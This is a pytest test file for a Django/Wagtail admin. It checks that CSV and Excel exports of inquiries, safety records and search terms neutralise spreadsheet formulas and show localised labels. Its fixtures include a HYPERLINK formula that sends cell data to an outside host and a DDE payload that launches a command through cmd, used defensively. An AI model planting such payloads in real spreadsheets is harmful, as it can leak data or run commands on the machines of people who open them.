"""Admin exports through their real URLs: what a visitor typed is inert, values are labels."""

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import pytest
from wagtail.contrib.search_promotions.models import Query
from wagtail.users.models import UserProfile

from department.models import SafetyRecord
from spaces.models import Inquiry

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Click")'
CALC = "+cmd|' /C calc'!A0"


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = content(response).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel then reads it as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


def xlsx_rows(response):
    sheet = openpyxl.load_workbook(io.BytesIO(content(response))).active
    header, *rows = sheet.iter_rows()
    return [{h.value: cell for h, cell in zip(header, row, strict=True)} for row in rows]


@pytest.fixture
def center(center_factory):
    return center_factory(title="Trung tâm Alpha", slug="alpha")


@pytest.fixture
def english_admin(admin_user):
    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = "en"
    profile.save()
    return admin_user


def test_inquiries_export_neutralises_what_a_visitor_typed_and_shows_labels(admin_client, center):
    inquiry = Inquiry.store(
        center=center,
        language="vi",
        name=HYPERLINK,
        email="khach@example.vn",
        phone="-1",
        organisation=CALC,
        message="@SUM(1+9)",
        people=40,
        respond_by=date(2026, 12, 9),
        created_at=datetime(2026, 12, 7, 7, 5, 42, 123456, tzinfo=UTC),
        mail_status="sent",
    )
    # Other tests of the session may have loaded the demo network: find ours.
    rows = csv_rows(admin_client.get("/admin/inquiries/?export=csv"))
    [row] = [row for row in rows if row["Mã số"] == inquiry.reference]
    assert row["Tên"] == "'" + HYPERLINK
    assert row["Tổ chức"] == "'" + CALC
    assert row["Điện thoại"] == "'-1"
    assert row["Số người dự kiến"] == "40"
    assert row["Trạng thái"] == "Mới"  # not "new"
    assert row["Thư gửi trung tâm"] == "Đã gửi"  # not "sent"
    assert row["Ngày nhận"] == "2026-12-07 14:05"  # Hanoi time, to the minute
    assert row["Hạn trả lời"] == "2026-12-09"

    rows = xlsx_rows(admin_client.get("/admin/inquiries/?export=xlsx"))
    [cells] = [cells for cells in rows if cells["Mã số"].value == inquiry.reference]
    name = cells["Tên"]
    assert (name.value, name.data_type, name.quotePrefix) == (HYPERLINK, "s", True)
    assert (cells["Số người dự kiến"].value, cells["Số người dự kiến"].data_type) == (40, "n")
    assert cells["Trạng thái"].value == "Mới"
    assert cells["Ngày nhận"].value == datetime(2026, 12, 7, 14, 5)
    assert cells["Ngày nhận"].number_format == "yyyy-mm-dd hh:mm"


def test_safety_records_export_in_the_users_language(client, english_admin, center):
    SafetyRecord.objects.create(
        center=center,
        date=date(2026, 12, 7),
        kind="drill",
        result="passed",
        conducted_by="=1+1",
        participants=40,
    )
    client.force_login(english_admin)
    rows = csv_rows(client.get("/admin/safety/records/?export=csv"))
    [row] = [row for row in rows if row["Conducted by"] == "'=1+1"]
    assert (row["Kind"], row["Result"], row["Date"]) == ("Drill", "Passed", "2026-12-07")


def test_wagtails_search_terms_report_neutralises_what_visitors_searched(client, english_admin):
    Query.get("=1+1").add_hit()
    client.force_login(english_admin)
    response = client.get("/admin/searchpicks/reports/search-terms/?export=csv")
    terms = [row["Search term(s)"] for row in csv_rows(response)]
    assert "'=1+1" in terms and "=1+1" not in terms
